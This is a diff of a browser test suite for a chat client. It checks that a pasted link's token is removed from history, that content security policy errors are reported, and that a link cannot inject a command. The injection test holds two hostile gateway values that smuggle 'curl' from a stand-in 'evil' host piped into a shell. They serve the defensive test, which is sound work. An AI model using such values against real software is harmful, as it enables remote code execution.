@@ -132,10 +132,11 @@ scenario("a link pasted into the open page is followed, and its token leaves the
   await chat.open({ token: null });
   await chat.hasStatus("Signed out");
   const link = new URLSearchParams({ gateway: server.gateway, token: server.token });
+  const entries = await page.evaluate(() => history.length);
   await page.evaluate((link) => (location.hash = link), String(link));
   await chat.hasStatus("Connected");
   assert.equal(page.url(), server.page);
-  assert.equal(await page.evaluate(() => history.length), 3, "the entry was replaced, not added to");
+  assert.equal(await page.evaluate(() => history.length), entries + 1, "the entry with the token was replaced");
 });
 
 scenario(
@@ -159,7 +160,7 @@ scenario(
 );
 
 scenario("a link cannot put a command of its own into the one to copy", EMBEDDED, async ({ chat, page, complaints }) => {
-  complaints.expect(/content security policy/i);
+  complaints.expect(/content.security.policy/i);
   await chat.open({ gateway: "ws://127.0.0.1:9/;curl${IFS}evil|sh", token: null });
   await page.getByText(/is in no address/).waitFor();
   await chat.open({ gateway: "ws://127.0.0.1:9/;curl$IFS-evil&sh", token: null });
@@ -168,7 +169,7 @@ scenario("a link cannot put a command of its own into the one to copy", EMBEDDED
 });
 
 scenario("what is written while the policy forbids the gateway is shown, and waits", EMBEDDED, async ({ chat, page, complaints }) => {
-  complaints.expect(/content security policy/i);
+  complaints.expect(/content.security.policy/i);
   const gateway = "ws://127.0.0.1:9/";
   const used = (gateway) => location.protocol === "http:" && localStorage.setItem(`clawline.used:${gateway}`, "1");
   await page.addInitScript(used, gateway);
